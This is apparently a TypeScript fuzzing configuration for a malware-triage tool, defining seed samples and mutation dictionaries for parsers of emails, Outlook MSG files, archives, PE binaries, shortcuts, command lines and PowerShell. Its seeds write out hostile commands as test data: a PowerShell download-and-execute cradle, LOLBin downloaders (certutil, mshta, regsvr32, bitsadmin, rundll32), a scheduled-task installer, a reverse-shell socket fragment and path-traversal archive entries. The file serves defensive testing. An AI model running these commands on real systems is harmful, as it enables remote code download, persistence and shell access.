// What the fuzzer attacks: one entry per parser, with seeds built by the test generators (valid samples to
// mutate from; nothing opaque is committed) and a dictionary of the format's tokens for the mutator.

import { archiveAnalyzer } from '../../src/analyzers/archive/index.ts';
import { openZip } from '../../src/analyzers/archive/zip-reader.ts';
import { cmdlineAnalyzer } from '../../src/analyzers/cmdline/index.ts';
import { lnkAnalyzer } from '../../src/analyzers/lnk/index.ts';
import { emailAnalyzer } from '../../src/analyzers/mail/email.ts';
import { msgAnalyzer } from '../../src/analyzers/mail/msg.ts';
import { peAnalyzer } from '../../src/analyzers/pe/index.ts';
import { powershellAnalyzer } from '../../src/analyzers/powershell/index.ts';
import { identify } from '../../src/engine/identify.ts';
import type { Analyzer } from '../../src/engine/types.ts';
import { make7z, makeGzip } from '../generators/archive.ts';
import { makeCab } from '../generators/archive-cab.ts';
import { makeIso } from '../generators/archive-iso.ts';
import { makeRar5 } from '../generators/archive-rar.ts';
import * as mail from '../generators/email.ts';
import { makeShortcut } from '../generators/lnk.ts';
import { outlookMsg } from '../generators/msg.ts';
import { buildPe, codeLikeBytes, noiseBytes } from '../generators/pe.ts';
import * as ps from '../generators/powershell.ts';
import { makeZip, rawZip, storedEntry } from '../generators/zip.ts';

export interface FuzzTarget {
  name: string;
  analyzer: Analyzer;
  /** File name the artifact carries (some parsers look at the extension). */
  fileName: string;
  /** The artifact kind handed to the analyzer for these bytes. */
  kindOf(data: Uint8Array): string;
  seeds(): Promise<Uint8Array[]>;
  dictionary: (string | Uint8Array)[];
  /** Largest input the mutator makes. */
  maxLength: number;
  /** Passwords the context offers (archives try them). */
  passwords?: string[];
  /**
   * Seconds of the short CI run. Targets that start a 7-Zip worker per input run a few inputs a second, and on a
   * loaded machine the seeds alone can fill the default two.
   */
  ciSeconds?: number;
}

const enc = (s: string) => new TextEncoder().encode(s);
const fixed = (kind: string) => () => kind;
const ARCHIVE_KINDS = new Set(['zip', '7z', 'rar', 'iso', 'udf', 'vhd', 'vhdx', 'gzip', 'cab']);

const LAUNCHER = 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"';

const emailTarget: FuzzTarget = {
  name: 'email',
  analyzer: emailAnalyzer,
  fileName: 'report.eml',
  kindOf: fixed('email'),
  maxLength: 128 * 1024,
  async seeds() {
    const lure = mail.qakbotLure();
    return [
      lure,
      mail.htmlOnlyLure(),
      mail.reportWrapper(lure),
      mail.inlineForward(mail.htmlOnlyLure()),
      mail.invoiceNotice(),
      mail.newsletter(4),
      mail.bounce(),
      mail.calendarInvite(),
      mail.simulationMail(),
      mail.deepNesting(6),
      mail.manyParts(12),
      mail.unclosedBoundary(2, 256),
      mail.nestedMessages(4),
    ].map(mail.bytes);
  },
  dictionary: [
    '\r\n', '\r\n\r\n', '\n\n', ': ', '\r\n ', 'From: ', 'To: ', 'Subject: ', 'Reply-To: ', 'Return-Path: <', 'Received: from ',
    'Message-ID: <', 'Date: ', 'MIME-Version: 1.0\r\n', 'Content-Type: ', 'multipart/mixed; boundary="', 'multipart/alternative; boundary=',
    'multipart/report', 'message/rfc822', 'text/html; charset=', 'text/plain', 'application/octet-stream', 'application/vnd.ms-outlook',
    'Content-Transfer-Encoding: ', 'base64', 'quoted-printable', 'Content-Disposition: attachment; filename=', 'filename*=UTF-8\'\'',
    'name*0=', '; charset="utf-8"', '--', '--\r\n', '=?utf-8?B?', '=?iso-8859-1?Q?', '?=', '=3D', '=\r\n', '"', '<', '>', '@', ',', ';',
    'DKIM-Signature: v=1; a=rsa-sha256; d=', 'Authentication-Results: ', 'spf=fail', 'X-PHISHTEST: ', '<a href="http://', '</a>', 'Password: ',
  ],
};

const msgTarget: FuzzTarget = {
  name: 'msg',
  analyzer: msgAnalyzer,
  fileName: 'report.msg',
  kindOf: fixed('msg'),
  maxLength: 256 * 1024,
  async seeds() {
    const plain = { subject: 'Invoice 4411', senderName: 'Laura Becker', senderEmail: 'l.becker@hoffmann-logistik.example', body: 'Password: Inv4411\r\nhttp://cheap.example/a.zip', recipients: [{ name: 'Sam', email: 'sam@corp.example' }] };
    return [
      outlookMsg(plain),
      outlookMsg({ ...plain, headers: mail.qakbotLure().split('\r\n\r\n')[0], html: '<a href="http://cheap.example/a.zip">Invoice</a>' }),
      outlookMsg({ ...plain, rtfHtml: '<html><body><p>Passwort: Rg77</p><a href="http://x.example/y">y</a></body></html>' }),
      outlookMsg({ ...plain, attachments: [{ name: 'a.txt', data: enc('hello') }, { name: 'inner.msg', msg: { subject: 'inner', body: 'b' } }] }),
    ];
  },
  dictionary: ['\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', '__substg1.0_', '__properties_version1.0', '__recip_version1.0_#00000000', '__attach_version1.0_#00000000', '\xfe\xff\xff\xff', '\xff\xff\xff\xff', '\xfd\xff\xff\xff', 'MELA', 'LZFu'].map(latin1),
};

const zipTarget: FuzzTarget = {
  name: 'zip',
  ciSeconds: 12,
  analyzer: archiveAnalyzer,
  fileName: 'invoice.zip',
  kindOf: fixed('zip'),
  maxLength: 64 * 1024,
  passwords: ['Inv4411', 'infected'],
  async seeds() {
    const files = [{ name: 'Invoice_4411.js', data: 'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");' }, { name: 'readme.txt', data: 'hello '.repeat(40) }];
    return [
      await makeZip(files),
      await makeZip(files, { password: 'Inv4411' }),
      await makeZip(files, { password: 'Inv4411', encryption: 'aes256' }),
      rawZip([storedEntry('../../evil.lnk', 'x'), storedEntry('C:\\Windows\\a.bat', 'cmd /c calc'), storedEntry('dir/', '')]),
      await makeZip([{ name: 'inner.zip', data: await makeZip([{ name: 'a.txt', data: 'nested' }]) }]),
    ];
  },
  dictionary: ['PK\x03\x04', 'PK\x01\x02', 'PK\x05\x06', 'PK\x06\x06', 'PK\x06\x07', 'PK\x07\x08', '\x01\x99', '\x00\x00', '\x08\x00', '\x09\x00', '\x0e\x00', '\x63\x00', '\x01\x00', '../', 'C:\\', '\xff\xff\xff\xff'].map(latin1),
};

/**
 * The ZIP reader alone (zip.js, ZipCrypto check bytes, capped sinks), without the archive analyzer's 7-Zip
 * fallback: a ZIP zip.js refuses costs a 7-Zip worker in `zip` (about 6 inputs/s), here a few microseconds.
 */
const zipReaderAnalyzer: Analyzer = {
  name: 'zip-reader',
  findings: {},
  async analyze(artifact, ctx) {
    const handle = await openZip(artifact.data);
    if (!handle) return { label: 'not for zip.js' };
    const password = await handle.findPassword(ctx.passwordCandidates().map((c) => c.value), ctx.signal);
    const { limits } = ctx;
    const extraction = await handle.extract(password, { maxMembers: limits.maxArchiveMembers, maxMemberBytes: limits.maxMemberBytes, maxArchiveBytes: limits.maxArchiveBytes, maxCompressionRatio: limits.maxCompressionRatio, signal: ctx.signal });
    return { children: extraction.members.map((m) => ({ relation: 'extracted' as const, name: m.name, data: m.data })), limits: extraction.limits, errors: extraction.failures };
  },
};

const zipReaderTarget: FuzzTarget = { ...zipTarget, name: 'zip-reader', analyzer: zipReaderAnalyzer };

const archiveTarget: FuzzTarget = {
  name: 'archive',
  ciSeconds: 12,
  analyzer: archiveAnalyzer,
  fileName: 'invoice.bin',
  // The engine routes by content: mutated bytes go to the reader their magic number names.
  kindOf(data) {
    const kind = identify(data, 'invoice.bin');
    return ARCHIVE_KINDS.has(kind) && kind !== 'zip' ? kind : '7z';
  },
  maxLength: 64 * 1024,
  passwords: ['Inv4411'],
  async seeds() {
    const files = [{ name: 'Invoice.lnk', data: 'shortcut bytes' }, { name: 'doc.txt', data: 'hello '.repeat(30) }];
    return [
      await make7z(files),
      await make7z(files, { password: 'Inv4411', encryptNames: true }),
      makeGzip('invoice.js', 'WScript.Echo(1)'),
      makeCab(files),
      makeIso([{ name: 'INVOICE.LNK', data: 'x' }, { name: 'PAYLOAD.DLL', data: 'MZ' }]),
      makeRar5(files),
    ];
  },
  dictionary: ["7z\xbc\xaf'\x1c", 'Rar!\x1a\x07\x01\x00', 'MSCF', '\x1f\x8b\x08', 'CD001', 'conectix', 'vhdxfile', '\x00\x00\x00\x00', '\xff\xff\xff\xff'].map(latin1),
};

const peTarget: FuzzTarget = {
  name: 'pe',
  analyzer: peAnalyzer,
  fileName: 'payload.dll',
  kindOf: fixed('pe'),
  maxLength: 64 * 1024,
  async seeds() {
    return [
      buildPe(),
      buildPe({
        dll: true,
        sections: [{ name: '.text', data: codeLikeBytes(1024) }, { name: '.data', data: noiseBytes(512), access: 'rw-' }],
        imports: [{ dll: 'KERNEL32.dll', functions: ['VirtualAlloc', 'LoadLibraryA', 7] }],
        exports: { dllName: 'x.dll', names: ['DllRegisterServer', 'Run'] },
        resources: [{ type: 10, name: 'PAYLOAD', data: noiseBytes(300, 7) }, { type: 'BITMAP', name: 1, data: enc('MZ..') }],
        rich: [{ productId: 0x104, build: 30729, count: 3 }],
        overlay: noiseBytes(2048, 3),
        signatureBytes: 256,
      }),
      buildPe({ is64: true, dll: true, exports: { dllName: 'y.dll', names: ['Motd'] }, sections: [{ name: 'UPX0', data: new Uint8Array(0), virtualSize: 0x4000 }, { name: 'UPX1', data: noiseBytes(1500, 9) }] }),
    ];
  },
  dictionary: ['MZ', 'PE\x00\x00', 'Rich', 'DanS', '\x0b\x01', '\x0b\x02', '\x4c\x01', '\x64\x86', '.text\x00\x00\x00', '.rsrc\x00\x00\x00', 'UPX0', '\xff\xff\xff\x7f', '\x00\x10\x00\x00', '\x00\x02\x00\x00'].map(latin1),
};

const lnkTarget: FuzzTarget = {
  name: 'lnk',
  analyzer: lnkAnalyzer,
  fileName: 'Invoice.pdf.lnk',
  kindOf: fixed('lnk'),
  maxLength: 16 * 1024,
  async seeds() {
    return [
      makeShortcut({ target: 'C:\\Windows\\System32\\cmd.exe', arguments: `/c ${LAUNCHER}`, iconLocation: 'C:\\Program Files\\Adobe\\acrobat.exe', showCommand: 7, machineId: 'desktop-4711', workingDir: '%TEMP%' }),
      makeShortcut({ environmentTarget: '%windir%\\system32\\WindowsPowerShell\\v1.0\\powershell.exe', arguments: `${' '.repeat(300)}-enc ${ps.encodeCommand('calc')}`, name: 'Invoice' }),
      makeShortcut({ target: 'C:\\Windows\\System32\\rundll32.exe', arguments: 'payload.dll,DllRegisterServer' }),
    ];
  },
  dictionary: ['L\x00\x00\x00', '\x01\x14\x02\x00', '\x01\x00\x00\xa0', '\x03\x00\x00\xa0', '\x05\x00\x00\xa0', '\x09\x00\x00\xa0', '\xff\xff', '\x00\x00\x00\x00'].map(latin1),
};

const cmdlineTarget: FuzzTarget = {
  name: 'cmdline',
  analyzer: cmdlineAnalyzer,
  fileName: 'command.txt',
  kindOf: fixed('cmdline'),
  maxLength: 16 * 1024,
  async seeds() {
    return [
      LAUNCHER,
      `cmd.exe /c "set x=pow&& set y=ershell&& call %x%%y% -enc ${ps.encodeCommand('iex calc')}"`,
      'c^m^d /v:on /c "set u=http://a.example/p.dll & curl -o %TEMP%\\p.dll !u! & rundll32 %TEMP%\\p.dll,Motd"',
      'mshta http://a.example/x.hta',
      'regsvr32 /s /n /u /i:http://a.example/f.sct scrobj.dll',
      'certutil -urlcache -split -f http://a.example/b64 %PUBLIC%\\a.txt && certutil -decode %PUBLIC%\\a.txt %PUBLIC%\\a.exe',
      'wmic process call create "cmd /c bitsadmin /transfer j http://a.example/a.exe C:\\ProgramData\\a.exe"',
      'schtasks /create /tn x /tr "conhost --headless cmd /c start /b msiexec /q /i http://a.example/a.msi" /sc minute',
      '@echo off\r\nrem x\r\nset a=%~dp0\r\nforfiles /p c:\\windows /m notepad.exe /c "cmd /c %a%run.bat"\r\n',
      ps.encodedLauncher(ps.qakbotDownloader(['http://a.example/1', 'http://b.example/2'], 'C:\\ProgramData\\x.dll', 'Motd')),
    ].map(enc);
  },
  dictionary: ['^', '"', '&', '&&', '||', '|', '>', '<', '(', ')', '%', '%%', '!', '%COMSPEC%', '%TEMP%', '%x:~1,3%', '%x:a=b%', 'set ', 'call ', 'cmd /c ', 'cmd /v:on /c ', 'start /b ', 'powershell -enc ', 'powershell -e ', '-EncodedCommand ', '-c ', 'rundll32 ', ',DllRegisterServer', 'http://', ' ', '\r\n', '\t'].map(enc),
};

const powershellTarget: FuzzTarget = {
  name: 'powershell',
  analyzer: powershellAnalyzer,
  fileName: 'stage.ps1',
  kindOf: fixed('powershell'),
  maxLength: 16 * 1024,
  async seeds() {
    const stage = ps.qakbotDownloader(['http://a.example/1', 'http://b.example/2'], 'C:\\ProgramData\\x.dll', 'Motd');
    return [
      stage,
      ps.formatOperator('Invoke-Expression'),
      `${ps.concatenation('http://a.example/x.ps1')} | % { iex $_ }`,
      `& (${ps.backticks('Invoke-Expression')}) 'calc'`,
      `iex (${ps.charArray('Write-Host hi')})`,
      `iex (${ps.charCasts('calc')})`,
      `iex (${ps.reversedIndex('Start-Process calc')})`,
      `iex (${ps.reversedRegex('Start-Process calc')})`,
      ps.base64Deflate(stage),
      ps.base64Gzip('Write-Output 1'),
      ps.secureStringLayer('calc'),
      ps.nestedEncoded('Write-Output 2', 2),
      '$c = New-Object Net.Sockets.TCPClient("198.51.100.7", 443); $s = $c.GetStream(); [byte[]]$b = 0..65535|%{0}; while(($i = $s.Read($b, 0, $b.Length)) -ne 0) { $d = ([text.encoding]::ASCII).GetString($b,0, $i) }',
      'for ($i = 0; $i -lt 10; $i++) { $x += [char](65 + $i) }; switch -regex ($x) { "A" { Set-Content -Path $env:TEMP\\a.bat -Value "calc" } default { break } }',
    ].map(enc);
  },
  dictionary: ['$', '${', '}', '(', ')', '@(', '@{', '[char]', '[string]', '[Convert]::FromBase64String(', "'", '"', '`', '+', '-f ', '-join', '-split', '-replace', '-bxor', '|', '%{', '?{', ';', '\n', '..', '::', 'iex ', 'Invoke-Expression', '&', '.Invoke(', '[ScriptBlock]::Create(', 'New-Object ', 'IO.Compression.DeflateStream', 'while(1){}', 'for(;;){}', 'foreach ($a in $b) {', 'function f { f }', 'try {', '} catch {', '[Text.Encoding]::Unicode.GetString(', '.Replace(', "-join[char[]](", '"$(', '@"\n', '\n"@', '0x', '1e308', '*', '[int]::MaxValue', ' -match ', ' -replace ', ' -split ', ' -like ', "'(a+)+$'", "'(a|aa)*c'", "('a' * 40)", '[regex]::Matches('].map(enc),
};

export const TARGETS: FuzzTarget[] = [emailTarget, msgTarget, zipTarget, zipReaderTarget, archiveTarget, peTarget, lnkTarget, cmdlineTarget, powershellTarget];

export function targetByName(name: string): FuzzTarget {
  const target = TARGETS.find((t) => t.name === name);
  if (!target) throw new Error(`no fuzz target "${name}" (targets: ${TARGETS.map((t) => t.name).join(', ')})`);
  return target;
}

function latin1(s: string): Uint8Array {
  return Uint8Array.from(s, (c) => c.charCodeAt(0) & 0xff);
}
